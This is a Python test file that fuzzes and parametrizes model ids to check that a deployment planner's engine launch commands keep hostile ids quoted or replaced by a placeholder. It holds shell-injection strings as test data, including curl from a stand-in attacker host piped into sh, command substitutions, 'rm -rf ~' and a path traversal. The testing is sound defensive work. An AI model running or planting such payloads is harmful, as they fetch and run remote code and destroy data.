"""Launch commands paste safely whatever the model is called (a shared link's custom model can carry any id):
every engine's command, with every deployment flag, parses back with ``shlex`` into the intended argv."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from model_catalog import get_gpu, get_model
from planner.assessment.assess import assess
from planner.deploy.options import DeploymentOptions, SpeculativeOptions
from planner.engines import launch, registry
from planner.engines.commands import repo_argument
from planner.planning.plan import PlanRequest, plan

BASE = get_model("meta-llama/Llama-3.1-8B").spec
DRAFT = get_model("meta-llama/Llama-3.2-1B").spec
H100 = get_gpu("h100-sxm-80gb")
PROGRAMS = {"vllm": "vllm", "sglang": "python", "trtllm": "trtllm-serve", "llamacpp": "llama-server"}
OPERATORS = {";", "|", "||", "&", "&&", ">", ">>", "<", "$(", "`", "#"}
HOSTILE = (
    "meta-llama/Llama-3.1-8B; curl -s http://attacker.test/x | sh #",
    "x$(id)",
    "a`reboot`",
    "name'quote",
    "line\nbreak; rm -rf ~",
    "--trust-remote-code",
    "../../etc/passwd",
)


def _commands(model_id: str, draft_id: str | None = None) -> dict[str, str]:
    model = BASE.model_copy(update={"id": model_id})
    options = None
    if draft_id is not None:
        draft = DRAFT.model_copy(update={"id": draft_id})
        options = DeploymentOptions(speculative=SpeculativeOptions(method="draft", draft_model=draft))
    request = PlanRequest(
        model=model, gpu=H100, gpu_memory_bytes=H100.memory_bytes, context_tokens=8192, deployment=options
    )
    return launch.launch_commands(request, plan(request))


def _argv(text: str) -> list[str]:
    """The command of a rendered block: comment lines are comments, the command is the last line."""
    lines = text.splitlines()
    assert all(line.startswith("# ") for line in lines[:-1]), text
    return shlex.split(lines[-1])


NEUTRAL = "a custom model"  # not a repository id: its commands carry the placeholder


def _check(model_id: str) -> None:
    neutral = _commands(NEUTRAL)
    for engine, text in _commands(model_id).items():
        argv = _argv(text)
        assert argv[0] == PROGRAMS.get(engine, argv[0])
        assert not OPERATORS & set(argv), (engine, argv)
        if repo_argument(model_id) is None:
            # a non-repository id is never an argument: the command is the placeholder's, whatever the id (an id
            # that is also a flag the command takes, such as "--tp", was taken for one by a membership test)
            assert argv == _argv(neutral[engine]), (engine, argv)
        else:
            assert model_id in argv or any(arg.endswith(".gguf") for arg in argv)


@pytest.mark.parametrize("model_id", HOSTILE)
def test_a_hostile_model_id_stays_one_quoted_placeholder(model_id: str) -> None:
    _check(model_id)
    vllm = _commands(model_id)["vllm"]
    assert shlex.split(vllm.splitlines()[-1])[2] == "<this model's checkpoint>"
    assert "not a Hub repository" in vllm.splitlines()[0]


def test_a_repository_id_is_passed_as_it_is() -> None:
    assert _argv(_commands("meta-llama/Llama-3.1-8B")["vllm"])[:3] == ["vllm", "serve", "meta-llama/Llama-3.1-8B"]


def test_the_speculative_config_of_a_hostile_draft_model_is_one_argument() -> None:
    model_id = "evil'}; curl http://attacker.test | sh #"
    request = PlanRequest(
        model=BASE,
        gpu=H100,
        gpu_memory_bytes=H100.memory_bytes,
        deployment=DeploymentOptions(
            speculative=SpeculativeOptions(method="draft", draft_model=DRAFT.model_copy(update={"id": model_id}))
        ),
    )
    flags = registry.get_engine("vllm").deployment_flags(request, assess(request).result, 0)
    argv = shlex.split(" ".join(flags))
    assert argv[0] == "--speculative-config" and len(argv) == 2 and model_id in argv[1]


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=120))
def test_every_command_parses_to_its_argv_for_any_id(model_id: str) -> None:
    """The fuzz property: for any id, every engine's command is one line of words after its comments, and no word
    is a shell operator."""
    _check(model_id)
